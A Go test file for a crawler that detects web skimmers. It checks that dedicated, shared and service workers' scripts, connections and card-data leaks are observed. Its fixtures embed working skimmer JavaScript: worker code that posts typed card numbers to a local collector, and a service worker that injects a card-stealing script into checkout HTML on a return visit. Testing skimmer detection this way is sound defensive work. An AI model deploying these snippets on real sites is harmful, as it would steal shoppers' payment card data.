package crawler

import (
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
)

// TestWorkersAreObserved proves that the code and requests of a page's
// dedicated worker (and the worker it starts), shared worker and service
// worker are in the observation: their scripts, importScripts and eval'd
// code under a frame that names the worker, their requests as connections
// started by the worker, from their very first line (each fetches at
// start), and the card a worker receives from the page and sends out, as a
// leak.
func TestWorkersAreObserved(t *testing.T) {
	c := needBrowser(t)
	var got hits
	collector := serveOn(t, "127.0.0.3", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.add(r.URL.Path, r.URL.RawQuery+string(b))
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	col := collector.URL
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body>
<form action="/order" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>
<script>
var w = new Worker('/w.js?v=1');
var sw = new SharedWorker('/shared.js');
navigator.serviceWorker.register('/sw.js');
document.addEventListener('change', function (e) { w.postMessage(e.target.value); sw.port.postMessage(e.target.value); }, true);
</script></body></html>`)
	})
	mux.HandleFunc("/w.js", func(w http.ResponseWriter, r *http.Request) {
		js(w, `fetch('`+col+`/dedicated-start'); importScripts('/imported.js'); eval('self.evald = 1');
new Worker('/nested.js');
onmessage = function (e) { fetch('`+col+`/dedicated', {method: 'POST', body: btoa(e.data)}); };`)
	})
	mux.HandleFunc("/imported.js", func(w http.ResponseWriter, r *http.Request) { js(w, `self.imported = true;`) })
	mux.HandleFunc("/nested.js", func(w http.ResponseWriter, r *http.Request) { js(w, `fetch('`+col+`/nested-start');`) })
	mux.HandleFunc("/shared.js", func(w http.ResponseWriter, r *http.Request) {
		js(w, `fetch('`+col+`/shared-start');
onconnect = function (e) { e.ports[0].onmessage = function (m) { fetch('`+col+`/shared?d=' + encodeURIComponent(m.data)); }; };`)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) { js(w, `fetch('`+col+`/service-start');`) })
	srv := serveOn(t, "127.0.0.1", mux)

	c.mu.Lock()
	browser := c.cur.ctx
	c.mu.Unlock()
	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true})
	defer func() {
		// Chromium exits when a browser context closes with a worker still
		// attached without flatten: the scan must detach first.
		select {
		case <-browser.Done():
		case <-time.After(5 * time.Second):
		}
		if browser.Err() != nil {
			t.Errorf("Chromium went away after the scan of a page with workers: %v", browser.Err())
		}
	}()
	for _, p := range []string{"/dedicated-start", "/nested-start", "/shared-start", "/service-start", "/dedicated", "/shared"} {
		if got.count(p) == 0 {
			t.Fatalf("the collector got no %s: the test page did not run as written", p)
		}
	}

	frames := map[string]bool{}
	for _, sc := range obs.Scripts {
		if _, _, ok := skimguard.ParseWorkerFrame(sc.Frame); ok {
			frames[sc.Frame+" "+string(sc.Kind)+" "+sc.URL] = true
		}
	}
	for _, want := range []string{
		"worker " + srv.URL + "/w.js?v=1 external " + srv.URL + "/w.js?v=1",
		"worker " + srv.URL + "/w.js?v=1 external " + srv.URL + "/imported.js",
		"worker " + srv.URL + "/w.js?v=1 dynamic ",
		"worker " + srv.URL + "/nested.js external " + srv.URL + "/nested.js",
		"shared worker " + srv.URL + "/shared.js external " + srv.URL + "/shared.js",
		"service worker " + srv.URL + "/sw.js external " + srv.URL + "/sw.js",
	} {
		if !frames[want] {
			t.Errorf("no script %q among the workers' scripts %v", want, frames)
		}
	}

	var conn *skimguard.Connection
	for i := range obs.Connections {
		if obs.Connections[i].Origin == col {
			conn = &obs.Connections[i]
		}
	}
	if conn == nil {
		t.Fatalf("no connection to %s, the workers' destination: %+v", col, obs.Connections)
	}
	if conn.Count < 6 {
		t.Errorf("connection to %s counts %d requests, want the workers' 6", col, conn.Count)
	}
	for _, want := range []string{"worker " + srv.URL + "/w.js?v=1", "shared worker " + srv.URL + "/shared.js", "service worker " + srv.URL + "/sw.js", "worker " + srv.URL + "/nested.js"} {
		if !slices.Contains(conn.Initiators, want) {
			t.Errorf("connection initiators %v lack %q", conn.Initiators, want)
		}
	}

	leaks := map[string]skimguard.Leak{}
	for _, l := range obs.Leaks {
		leaks[l.Initiator] = l
	}
	if l, ok := leaks["worker "+srv.URL+"/w.js?v=1"]; !ok || l.Origin != col || l.Where != "body" || l.Encoding != "base64" {
		t.Errorf("the dedicated worker's POST of the card is not a leak from the worker: %+v", obs.Leaks)
	}
	if l, ok := leaks["shared worker "+srv.URL+"/shared.js"]; !ok || l.Where != "url" || strings.Contains(l.URL, "4929386160871730") {
		t.Errorf("the shared worker's GET of the card is not a masked leak from the worker: %+v", obs.Leaks)
	}
}

// TestServiceWorkerRewriteIsSeenOnTheSecondLoad: a service worker that
// injects a skimmer into the checkout HTML only for a returning shopper is
// caught, because a page that starts a service worker is loaded a second
// time once the worker is active, in the same scan; the skimmer it injects
// and the card it sends are in the observation. A page without a service
// worker is loaded once.
func TestServiceWorkerRewriteIsSeenOnTheSecondLoad(t *testing.T) {
	c := needBrowser(t)
	var got hits
	collector := serveOn(t, "127.0.0.3", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.add(r.URL.Path, r.URL.RawQuery+string(b))
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/skim.js" {
			js(w, `document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') fetch('`+r.Host+`'.replace(/^/, 'http://') + '/gate', {method: 'POST', body: e.target.value}); }, true);`)
		}
	}))
	col := collector.URL
	var loads atomic.Int64
	mux := http.NewServeMux()
	form := `<form action="/order" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>`
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		loads.Add(1)
		html(w, `<!doctype html><html><body>`+form+`<script>navigator.serviceWorker.register('/sw.js');</script></body></html>`)
	})
	mux.HandleFunc("/plain", func(w http.ResponseWriter, r *http.Request) {
		loads.Add(1)
		html(w, `<!doctype html><html><body>`+form+`</body></html>`)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		js(w, `self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (e) {
  if (e.request.mode !== 'navigate') return;
  e.respondWith(fetch(e.request).then(function (r) { return r.text(); }).then(function (h) {
    return new Response(h.replace('</body>', '<script src="`+col+`/skim.js"></script></body>'), {headers: {'Content-Type': 'text/html'}});
  }));
});`)
	})
	srv := serveOn(t, "127.0.0.1", mux)

	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true})
	if got.count("/gate") == 0 {
		t.Fatalf("the skimmer the service worker injected did not send the card (loads %d, collector %v): the test page did not run as written", loads.Load(), got.count("/skim.js"))
	}
	if !obs.Revisited || loads.Load() != 2 {
		t.Fatalf("the page was loaded %d times, revisited %v: want a second load once its service worker was active", loads.Load(), obs.Revisited)
	}
	if !slices.ContainsFunc(obs.Scripts, func(sc skimguard.Script) bool { return sc.URL == col+"/skim.js" }) {
		t.Errorf("the injected skimmer %s/skim.js is not among the scripts", col)
	}
	if !slices.ContainsFunc(obs.Leaks, func(l skimguard.Leak) bool { return l.Origin == col }) {
		t.Errorf("the card sent to %s on the second load is not a leak: %+v", col, obs.Leaks)
	}
	if n := len(scriptsOf(obs, skimguard.ScriptInline)); n != 1 {
		t.Errorf("the page's inline script, the same on both loads, is listed %d times, want once", n)
	}

	loads.Store(0)
	obs = mustScan(t, c, skimguard.Page{URL: srv.URL + "/plain", Interact: true})
	if obs.Revisited || loads.Load() != 1 {
		t.Errorf("a page without a service worker was loaded %d times, revisited %v: want once", loads.Load(), obs.Revisited)
	}
}

// TestScansOfSharedWorkersKeepTheBrowser: concurrent and successive scans
// of pages with shared workers leave Chromium running. (Setting the
// browser's auto-attach again while a scan is attached to a shared worker
// of another browser context crashed it.)
func TestScansOfSharedWorkersKeepTheBrowser(t *testing.T) {
	c := needBrowser(t)
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body><input name="cardnumber" autocomplete="cc-number">
<script>var s = new SharedWorker('/shared.js'); s.port.start();</script></body></html>`)
	})
	mux.HandleFunc("/shared.js", func(w http.ResponseWriter, r *http.Request) {
		js(w, `onconnect = function (e) { e.ports[0].postMessage(1); };`)
	})
	srv := serveOn(t, "127.0.0.1", mux)
	for i := range 2 {
		c.mu.Lock()
		browser := c.cur.ctx
		c.mu.Unlock()
		var wg sync.WaitGroup
		for range 2 {
			wg.Go(func() { mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true}) })
		}
		wg.Wait()
		select {
		case <-browser.Done():
		case <-time.After(4 * time.Second):
		}
		if browser.Err() != nil {
			t.Fatalf("round %d: Chromium went away after concurrent scans of pages with shared workers: %v", i+1, browser.Err())
		}
	}
}
